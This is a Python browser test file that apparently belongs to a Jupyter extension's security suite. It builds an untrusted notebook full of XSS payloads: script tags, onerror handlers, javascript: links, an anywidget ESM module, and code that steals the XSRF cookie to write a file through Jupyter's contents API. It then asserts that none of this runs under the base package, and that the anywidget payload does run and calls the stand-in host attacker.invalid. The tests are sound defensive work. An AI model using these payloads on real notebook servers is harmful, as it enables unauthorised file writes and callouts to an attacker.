"""A stranger's notebook that is opened and not trusted: nothing in it runs in an environment as the base package makes it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from fal_jupyter.protocol.feed import MIME
from tests.browser.conftest import EVERY, Front, front_page, front_server
from tests.support.base_environment import base_environment
from tests.support.jupyter import TOKEN

ATTACKER = "http://attacker.invalid"
STATE = "application/vnd.jupyter.widget-state+json"
VIEW = "application/vnd.jupyter.widget-view+json"
# What each of them tries: leave a mark, write a file through Jupyter's contents API, and call home.
SCRIPT = """globalThis.__ran = [...(globalThis.__ran ?? []), %r];
const base = JSON.parse(document.getElementById("jupyter-config-data").textContent).baseUrl;
const xsrf = /_xsrf=([^;]+)/.exec(document.cookie)?.[1];
fetch(`${base}api/contents/written.txt`, {method: "PUT", headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
  body: JSON.stringify({type: "file", format: "text", content: "hostile"})});"""
CALL = f'fetch("{ATTACKER}/called");'
HTML = (
    f"<script>{SCRIPT % 'html'}{CALL}</script><img src=data:, onerror=\"__ran=['img']\"><iframe srcdoc=\"<script>parent.__ran=['frame']</script>\"></iframe>"
    f"<form action='{ATTACKER}/form'><input name=a autofocus onfocus=\"__ran=['focus']\"></form><a href=\"javascript:__ran=['link']\">click</a>"
    f"<object data='{ATTACKER}/object'></object><link rel=stylesheet href='{ATTACKER}/style'><style>@import '{ATTACKER}/import';</style>"
)
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"__ran=['svg']\"><script>{SCRIPT % 'svg'}</script></svg>"
ABOUT = f"![x]({ATTACKER}/picture.png) [link](javascript:__ran=['about'])\n\n<img src='{ATTACKER}/about' onerror=\"__ran=['about']\">"
EVIL = f"<img src=x onerror=\"__ran=['card']\"><script>{SCRIPT % 'card'}</script>"


def card(panel: str, tab: str) -> dict[str, Any]:
    """Data of our own type, hostile in every field that is drawn."""
    endpoints = [{"name": EVIL, "path": EVIL, "signature": EVIL, "doc": EVIL}]
    gateway = {"pid": 1, "started": 0, "version": EVIL, "owner": EVIL, "base": ATTACKER}
    error = {
        "type": EVIL,
        "message": EVIL,
        "text": EVIL,
        "frames": [{"filename": EVIL, "lineno": 1, "function": EVIL, "line": EVIL}],
        "phase": EVIL,
    }
    app: dict[str, Any] = {
        "app": EVIL, "alias": "x", "class_name": EVIL, "state": "constructor", "owner_kind": EVIL, "owner_name": EVIL, "owner_pid": 1, "auth": EVIL,
        "machine": EVIL, "url": "javascript:__ran=['url']", "revision": 1, "serving": 1, "code_since": 1, "verdict": "__proto__", "verdict_reason": EVIL, "endpoints": endpoints, "sockets": [], "about": ABOUT,
        "scaling": {"__proto__": 1, "max_concurrency": 1}, "by_class": {}, "overrides": {}, "reason": EVIL, "setup_ms": 1, "unloaded": False,
        "runners": [{"id": EVIL, "pid": 1, "state": EVIL, "since": 0, "devices": [EVIL], "served": 0, "in_flight": 0, "revision": 1, "memory": 0, "setup_ms": 0}],
        "queue": [], "waiting": 0, "in_flight": 0, "log": 0, "failure": {"time": 0, "revision": 1, "text": EVIL, "error": error, "retry_at": 0},
        "stats": {"calls": 1, "failed": 1, "cold": 0, "rate": 0, "sample": 1, "p50_ms": 1, "p95_ms": 1, "max_ms": 1, "spark": [1], "spark_time": 1},
    }  # fmt: skip
    request = {
        "id": EVIL, "alias": "x", "method": EVIL, "path": EVIL, "state": "done", "origin": EVIL, "began": 1, "status": 500, "queue_ms": 1, "start_ms": 1,
        "transfer_ms": 1, "run_ms": 1, "stream_ms": 1, "total_ms": 5, "revision": 1, "runner": EVIL, "cold": True, "bytes_in": 1, "bytes_out": 1,
        "content_type": EVIL, "error": EVIL,
    }  # fmt: skip
    decisions = [{"time": 1, "kind": EVIL, "before": 0, "after": 1, "seen": EVIL, "reason": EVIL}]
    timeline = {
        "points": [],
        "decisions": decisions,
        "lanes": [{"id": EVIL, "devices": [EVIL], "revision": 1, "moves": [[1, EVIL]]}],
    }
    options = [{"name": EVIL, "low": 0, "high": 9, "default": 1, "unit": EVIL}]
    picture = {"time": 1, "app": app, "requests": [request], "timeline": timeline}
    return {
        "version": 1, "panel": panel, "tab": tab, "alias": "x", "app": EVIL, "class_name": EVIL, "revision": 1, "cell": EVIL, "source": EVIL,
        "gateway": gateway, "options": options, "picture": picture, "saved": True,
    }  # fmt: skip


def hostile_notebook() -> str:
    """A saved notebook as a stranger sends it."""
    models = {
        "a" * 32: {"model_module": "anywidget", "model_module_version": "~0.11.0", "model_name": "AnyModel", "state": {
            "_anywidget_id": "evil.Evil", "_esm": f"{SCRIPT % 'anywidget'}\n{CALL}\nexport default {{}}", "_css": f"@import '{ATTACKER}/css';",
            "_model_module": "anywidget", "_model_module_version": "~0.11.0", "_model_name": "AnyModel",
            "_view_module": "anywidget", "_view_module_version": "~0.11.0", "_view_name": "AnyView",
        }},
        "b" * 32: {"model_module": f"{ATTACKER}/module.js", "model_module_version": "1.0.0", "model_name": "Evil", "state": {}},
    }  # fmt: skip
    bundles: list[dict[str, Any]] = [
        {"text/html": HTML}, {"image/svg+xml": SVG}, {"application/javascript": f"{SCRIPT % 'javascript'}{CALL}"},
        {VIEW: {"version_major": 2, "version_minor": 0, "model_id": "a" * 32}},
        *({MIME: card("card", tab)} for tab in ("try", "requests", "timeline", "config", "logs", "snippets")),
        *({MIME: card(panel, "")} for panel in ("dashboard", "config", "timeline", "requests", "constructor", "__proto__")),
    ]  # fmt: skip
    outputs = [{"output_type": "display_data", "metadata": {}, "data": bundle} for bundle in bundles]
    cells = [
        {"cell_type": "code", "id": f"c{at}", "metadata": {}, "execution_count": 1, "source": "1", "outputs": [one]}
        for at, one in enumerate(outputs)
    ]
    widgets = {STATE: {"version_major": 2, "version_minor": 0, "state": models}}
    spec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return json.dumps({"cells": cells, "metadata": {"kernelspec": spec, "widgets": widgets}, "nbformat": 4, "nbformat_minor": 5})  # fmt: skip


@pytest.fixture(scope="module")
def base_python(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return base_environment(tmp_path_factory.mktemp("base") / "env")


def opened(front: Front, name: str) -> None:
    """Open the notebook, and look at every output, since outputs are drawn when they are seen."""
    (front.server.directory / "root" / name).write_text(hostile_notebook())
    front.open(name, kernel=False)
    cells = front.page.locator(".jp-NotebookPanel .jp-CodeCell")
    for at in range(16):
        expect(cells.nth(at)).to_be_attached()
        cells.nth(at).evaluate(
            "cell => cell.scrollIntoView()"
        )  # not Playwright's, which wants a cell that is never drawn anew
    assert front.page.evaluate(
        "() => window.jupyterapp.shell.currentWidget.content.widgets.every(one => !one.model.trusted)"
    )


@pytest.mark.parametrize("app", ["lab", pytest.param("notebook", marks=pytest.mark.long)])
def test_nothing_of_a_hostile_notebook_runs_with_the_base_package(
    browser: Browser, base_python: Path, app: str
) -> None:
    with (
        front_server(app, base_python) as (server, state),
        front_page(browser, server, state, app, f"untrusted-{app}") as front,  # each unexpected request is a complaint
    ):
        opened(front, "stranger.ipynb")
        harmless(front)
        front.picture(f"untrusted-{app}")
        # trusted, HTML and JavaScript run, as Jupyter means it; what is of our own type is drawn as before
        front.page.evaluate(
            "() => { for (const cell of window.jupyterapp.shell.currentWidget.content.widgets.slice(4)) cell.model.trusted = true; }"
        )
        harmless(front)


def harmless(front: Front) -> None:
    """The cards are drawn, and nothing of the notebook runs, is an element, or has written."""
    for at in range(4, 10):
        cell = front.page.locator(".jp-CodeCell").nth(at)
        cell.evaluate("cell => cell.scrollIntoView()")
        expect(cell.locator(".fj")).to_contain_text("onerror")
    assert front.page.evaluate("() => globalThis.__ran") is None
    strange = front.page.evaluate(
        "() => document.querySelectorAll('.fj script, .fj iframe, .fj [onerror], .fj a[href^=\"javascript\"], .fj img').length"
    )
    assert strange == 0
    assert not (front.server.directory / "root" / "written.txt").exists()


@pytest.mark.long
@pytest.mark.parametrize("app", ["lab", "notebook"])
def test_with_anywidget_the_same_notebook_is_effective_as_documented_in_security_md(
    browser: Browser, request: pytest.FixtureRequest, app: str
) -> None:
    """What upstream does today. Where this fails because nothing ran, upstream has changed: then SECURITY.md and the extra can, too."""
    server, state = request.getfixturevalue(f"{app}_server")
    ran: list[str] = []
    with (  # noqa: PT012
        pytest.raises(AssertionError, match="attacker"),  # the page's complaints at its end: it called home
        front_page(browser, server, state, app, f"untrusted-anywidget-{app}") as front,
    ):
        opened(front, "stranger.ipynb")
        front.page.wait_for_function("() => globalThis.__ran?.includes('anywidget')", polling=EVERY)
        ran += front.page.evaluate("() => globalThis.__ran")
        file = server.directory / "root" / "written.txt"
        front.page.wait_for_function(
            "async address => (await fetch(address)).status === 200",
            arg=f"http://{server.host}{server.base_url}api/contents/written.txt?content=0&token={TOKEN}",
            polling=200,
        )
        assert file.read_text() == "hostile"
    assert ran == ["anywidget"]  # and nothing of ours, nor of HTML, SVG or JavaScript
